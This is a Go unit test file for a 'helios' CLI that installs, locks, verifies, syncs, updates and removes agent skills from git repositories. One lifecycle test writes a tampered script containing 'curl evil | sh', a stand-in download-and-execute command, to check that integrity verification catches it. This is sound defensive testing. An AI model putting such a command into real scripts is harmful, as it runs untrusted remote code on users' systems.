package unit_test

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/helios-agents/helios/internal/gitserver"
)

// instLock is helios-lock.json as a script reads it.
type instLock struct {
	Version int         `json:"version"`
	Skills  []instSkill `json:"skills"`
}

type instSkill struct {
	Name   string            `json:"name"`
	Source string            `json:"source"`
	Ref    string            `json:"ref"`
	Commit string            `json:"commit"`
	Path   string            `json:"path"`
	Files  map[string]string `json:"files"`
}

func instReadLock(t *testing.T, file string) instLock {
	t.Helper()
	data, err := os.ReadFile(file)
	require.NoError(t, err)
	var l instLock
	require.NoError(t, json.Unmarshal(data, &l), "%s", data)
	require.Equal(t, 1, l.Version)
	return l
}

func instEntry(t *testing.T, l instLock, name string) instSkill {
	t.Helper()
	i := slices.IndexFunc(l.Skills, func(s instSkill) bool { return s.Name == name })
	require.GreaterOrEqual(t, i, 0, "skill %q is not locked: %+v", name, l)
	return l.Skills[i]
}

func instDigest(s string) string {
	h := sha256.Sum256([]byte(s))
	return "sha256:" + hex.EncodeToString(h[:])
}

// instGit is a repository made with the git command, so that this test
// binary does not link go-git (its size counts in the peak-RSS tests).
type instGit struct {
	t   *testing.T
	dir string
	env []string
}

// newInstGit makes an empty repository whose default branch is main; the
// test is skipped when git is missing.
func newInstGit(t *testing.T, name string) *instGit {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed: these tests make repositories with it and serve them with git http-backend (apt-get install git)")
	}
	home := t.TempDir()
	g := &instGit{t: t, dir: filepath.Join(t.TempDir(), name), env: append(os.Environ(),
		"HOME="+home, "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=Test", "GIT_AUTHOR_EMAIL=test@example.com",
		"GIT_COMMITTER_NAME=Test", "GIT_COMMITTER_EMAIL=test@example.com")}
	require.NoError(t, os.MkdirAll(g.dir, 0o755))
	g.git("init", "-q", "-b", "main")
	return g
}

func (g *instGit) git(args ...string) string {
	g.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir, cmd.Env = g.dir, g.env
	out, err := cmd.CombinedOutput()
	require.NoError(g.t, err, "git %v: %s", args, out)
	return strings.TrimSpace(string(out))
}

// url is the repository's file:// URL.
func (g *instGit) url() string { return "file://" + g.dir }

// serve serves the repository over smart HTTP and returns its URL.
func (g *instGit) serve() string {
	return gitserver.Serve(g.t, filepath.Dir(g.dir), "", "").URL + "/" + filepath.Base(g.dir)
}

// commit makes the work tree exactly files (a "+x " prefix on the content
// makes the file executable) and commits it; it returns the commit's hash.
func (g *instGit) commit(files map[string]string) string {
	g.t.Helper()
	entries, err := os.ReadDir(g.dir)
	require.NoError(g.t, err)
	for _, e := range entries {
		if e.Name() != ".git" {
			require.NoError(g.t, os.RemoveAll(filepath.Join(g.dir, e.Name())))
		}
	}
	for p, content := range files {
		perm := os.FileMode(0o644)
		if c, ok := strings.CutPrefix(content, "+x "); ok {
			content, perm = c, 0o755
		}
		full := filepath.Join(g.dir, filepath.FromSlash(p))
		require.NoError(g.t, os.MkdirAll(filepath.Dir(full), 0o755))
		require.NoError(g.t, os.WriteFile(full, []byte(content), perm))
	}
	g.git("add", "-A")
	g.git("commit", "-q", "--allow-empty", "-m", "commit")
	return g.git("rev-parse", "HEAD")
}

// instRepo is a repository of two skills; body goes into pdf's SKILL.md.
func instRepo(body string) map[string]string {
	return map[string]string{
		"README.md":                     "# our skills\n",
		"skills/pdf/SKILL.md":           skillMD("name: pdf\ndescription: Work with PDF files.", body),
		"skills/pdf/scripts/extract.sh": "+x #!/bin/sh\necho extract\n",
		"skills/docx/SKILL.md":          skillMD("name: docx\ndescription: Work with Word files.", "Docx.\n"),
	}
}

// The whole life of installed skills through the binary, over file:// and
// over smart HTTP: add locks the commit and each file's digest; verify names
// an edited file (exit 1); sync puts it back; update moves to the newest
// commit and rewrites the lock; sync on a fresh HOME reproduces the locked
// commit after the repository moved on; remove deletes folder and entry.
func TestCLISkillsInstallLifecycle(t *testing.T) {
	for _, transport := range []string{"file", "http"} {
		t.Run(transport, func(t *testing.T) {
			base := filepath.Join(t.TempDir(), "my home ☂")
			home, work := filepath.Join(base, "home"), filepath.Join(base, "work")
			require.NoError(t, os.MkdirAll(work, 0o755))
			repo := newInstGit(t, "team skills")
			first := repo.commit(instRepo("First.\n"))
			url := repo.url()
			if transport == "http" {
				url = repo.serve()
			}
			lockFile := filepath.Join(home, ".helios", "helios-lock.json")
			root := filepath.Join(home, ".helios", "skills")

			r := helios(t, home, work, "--json", "skills", "add", url)
			cliExpect(t, r, 0)
			var res struct {
				Root, Lock string
				Skills     []struct{ Name, Action, Commit, Dir string }
			}
			require.NoError(t, json.Unmarshal([]byte(r.stdout), &res), r.stdout)
			assert.Equal(t, root, res.Root)
			assert.Equal(t, lockFile, res.Lock)
			require.Len(t, res.Skills, 2)
			assert.Equal(t, "installed", res.Skills[1].Action)
			assert.Equal(t, filepath.Join(root, "pdf"), res.Skills[1].Dir)

			pdf := instEntry(t, instReadLock(t, lockFile), "pdf")
			assert.Equal(t, first, pdf.Commit)
			assert.Equal(t, url, pdf.Source)
			assert.Equal(t, "main", pdf.Ref)
			assert.Equal(t, "skills/pdf", pdf.Path)
			assert.Equal(t, map[string]string{
				"SKILL.md":           instDigest(skillMD("name: pdf\ndescription: Work with PDF files.", "First.\n")),
				"scripts/extract.sh": instDigest("#!/bin/sh\necho extract\n"),
			}, pdf.Files)

			r = helios(t, home, work, "skills", "verify")
			cliExpect(t, r, 0)
			script := filepath.Join(root, "pdf", "scripts", "extract.sh")
			require.NoError(t, os.WriteFile(script, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))
			r = helios(t, home, work, "skills", "verify")
			cliExpect(t, r, 1)
			assert.Contains(t, r.stdout, "pdf: changed: scripts/extract.sh")
			assert.Contains(t, r.stdout, "docx: ok")
			r = helios(t, home, work, "--json", "skills", "verify")
			cliExpect(t, r, 1)
			var rep struct {
				OK     bool
				Skills []struct {
					Name    string
					OK      bool
					Changed []string
				}
			}
			require.NoError(t, json.Unmarshal([]byte(r.stdout), &rep), r.stdout)
			assert.False(t, rep.OK)
			assert.Equal(t, []string{"scripts/extract.sh"}, rep.Skills[1].Changed)

			r = helios(t, home, work, "skills", "sync")
			cliExpect(t, r, 0)
			assert.Contains(t, r.stdout, "restored pdf")
			cliExpect(t, helios(t, home, work, "skills", "verify"), 0)

			second := repo.commit(instRepo("Second.\n"))
			r = helios(t, home, work, "skills", "update", "pdf")
			cliExpect(t, r, 0)
			assert.Contains(t, r.stdout, "updated pdf: "+first[:12]+" -> "+second[:12])
			l := instReadLock(t, lockFile)
			assert.Equal(t, second, instEntry(t, l, "pdf").Commit)
			assert.Equal(t, first, instEntry(t, l, "docx").Commit, "docx was not named")
			lockBytes, err := os.ReadFile(lockFile)
			require.NoError(t, err)

			// A fresh machine after the repository moved on again.
			repo.commit(instRepo("Third.\n"))
			fresh := filepath.Join(base, "fresh home")
			require.NoError(t, os.MkdirAll(filepath.Join(fresh, ".helios"), 0o755))
			require.NoError(t, os.WriteFile(filepath.Join(fresh, ".helios", "helios-lock.json"), lockBytes, 0o644))
			r = helios(t, fresh, work, "skills", "sync")
			cliExpect(t, r, 0)
			data, err := os.ReadFile(filepath.Join(fresh, ".helios", "skills", "pdf", "SKILL.md"))
			require.NoError(t, err)
			assert.Contains(t, string(data), "Second.", "the locked commit, not the newest")
			data, err = os.ReadFile(filepath.Join(fresh, ".helios", "skills", "docx", "SKILL.md"))
			require.NoError(t, err)
			assert.Contains(t, string(data), "Docx.")
			fi, err := os.Stat(filepath.Join(fresh, ".helios", "skills", "pdf", "scripts", "extract.sh"))
			require.NoError(t, err)
			assert.NotZero(t, fi.Mode().Perm()&0o100, "run bits kept")
			cliExpect(t, helios(t, fresh, work, "skills", "verify"), 0)

			r = helios(t, home, work, "skills", "remove", "pdf")
			cliExpect(t, r, 0)
			assert.NoDirExists(t, filepath.Join(root, "pdf"))
			l = instReadLock(t, lockFile)
			require.Len(t, l.Skills, 1)
			assert.Equal(t, "docx", l.Skills[0].Name)
		})
	}
}

// --project installs into <work dir>/.helios/skills and locks in
// <work dir>/helios-lock.json; the catalog lists it as a project skill.
func TestCLISkillsInstallProject(t *testing.T) {
	home, work := t.TempDir(), filepath.Join(t.TempDir(), "proj ☂")
	require.NoError(t, os.MkdirAll(work, 0o755))
	repo := newInstGit(t, "skills")
	commit := repo.commit(instRepo(""))

	r := helios(t, home, t.TempDir(), "--work-dir", work, "skills", "add", "--project", "--skill", "docx", repo.url())
	cliExpect(t, r, 0)
	assert.FileExists(t, filepath.Join(work, ".helios", "skills", "docx", "SKILL.md"))
	assert.NoDirExists(t, filepath.Join(work, ".helios", "skills", "pdf"), "--skill docx only")
	assert.Equal(t, commit, instEntry(t, instReadLock(t, filepath.Join(work, "helios-lock.json")), "docx").Commit)
	assert.NoFileExists(t, filepath.Join(home, ".helios", "helios-lock.json"), "the user lock is not touched")

	r = helios(t, home, work, "--json", "skills", "list")
	cliExpect(t, r, 0)
	list := cliDecodeList(t, r.stdout)
	require.Len(t, list.Skills, 1)
	assert.Equal(t, "docx", list.Skills[0].Name)
	assert.Equal(t, "project", list.Skills[0].Source)

	cliExpect(t, helios(t, home, work, "skills", "verify", "--project"), 0)
	r = helios(t, home, work, "skills", "verify")
	cliExpect(t, r, 0)
	assert.Contains(t, r.stdout, "No skills locked", "without --project: the user lock, which is empty")
	cliExpect(t, helios(t, home, work, "skills", "remove", "--project", "docx"), 0)
	assert.NoDirExists(t, filepath.Join(work, ".helios", "skills", "docx"))
}

// Bad input: one line naming the source, ref or file, exit 1, nothing
// installed; a command line that is wrong: exit 2.
func TestCLISkillsInstallBadInput(t *testing.T) {
	home, work := t.TempDir(), t.TempDir()
	good := newInstGit(t, "good")
	good.commit(instRepo(""))
	empty := newInstGit(t, "empty")
	empty.commit(map[string]string{"README.md": "nothing\n"})
	root := filepath.Join(home, ".helios", "skills")

	for _, c := range []struct {
		name string
		args []string
		want []string
	}{
		{"unreachable source", []string{"add", "http://127.0.0.1:1/skills.git"}, []string{"http://127.0.0.1:1/skills.git"}},
		{"missing ref", []string{"add", good.url() + "#v9"}, []string{`ref "v9" not found`, good.url()}},
		{"no SKILL.md", []string{"add", empty.url()}, []string{"no SKILL.md", empty.url()}},
		{"unknown skill", []string{"add", "--skill", "xlsx", good.url()}, []string{`"xlsx"`}},
		{"remove unknown", []string{"remove", "pdf"}, []string{`"pdf"`, "helios-lock.json"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := helios(t, home, work, append([]string{"skills"}, c.args...)...)
			cliExpect(t, r, 1)
			assert.Empty(t, r.stdout)
			assert.Equal(t, 1, strings.Count(strings.TrimSpace(r.stderr), "\n")+1, "one line: %q", r.stderr)
			for _, w := range c.want {
				assert.Contains(t, r.stderr, w)
			}
			assert.NoDirExists(t, root)
		})
	}

	t.Run("corrupted lockfile", func(t *testing.T) {
		lockFile := filepath.Join(home, ".helios", "helios-lock.json")
		writeFile(t, lockFile, "{\n  \"version\": 1,\n  \"skills\": [\n")
		for _, args := range [][]string{{"add", good.url()}, {"sync"}, {"verify"}, {"update"}, {"remove", "pdf"}} {
			r := helios(t, home, work, append([]string{"skills"}, args...)...)
			cliExpect(t, r, 1)
			assert.Contains(t, r.stderr, lockFile, "%v", args)
			assert.Contains(t, r.stderr, "corrupted lockfile", "%v", args)
			assert.Contains(t, r.stderr, "line 4", "%v", args)
		}
		assert.NoDirExists(t, root)
	})

	cliExpect(t, helios(t, home, work, "skills", "add"), 2)
	cliExpect(t, helios(t, home, work, "skills", "remove"), 2)
	cliExpect(t, helios(t, home, work, "skills", "sync", "extra"), 2)
}

// The live catalog picks installs up by itself (C4): `skills watch` shows
// the added skills, then the removed one, without a restart.
func TestCLISkillsInstallShowsInTheLiveCatalog(t *testing.T) {
	home, work := t.TempDir(), t.TempDir()
	repo := newInstGit(t, "skills")
	repo.commit(instRepo(""))

	cmd, next := startSkillsWatch(t, work, home, 20*time.Second)
	defer cmd.Process.Kill()
	first := next("the first catalog")
	require.True(t, first.Complete)
	require.Empty(t, first.Skills)

	cliExpect(t, helios(t, home, work, "skills", "add", repo.url()), 0)
	var seen []string
	for len(seen) < 2 {
		ev := next("the installed skills")
		seen = append(seen, ev.Added...)
		for _, s := range ev.Skills {
			assert.Contains(t, []string{"docx", "pdf"}, s.Name)
		}
	}
	slices.Sort(seen)
	assert.Equal(t, []string{"docx", "pdf"}, seen)

	cliExpect(t, helios(t, home, work, "skills", "remove", "pdf"), 0)
	ev := next("the removal")
	assert.Equal(t, []string{"pdf"}, ev.Removed)
}
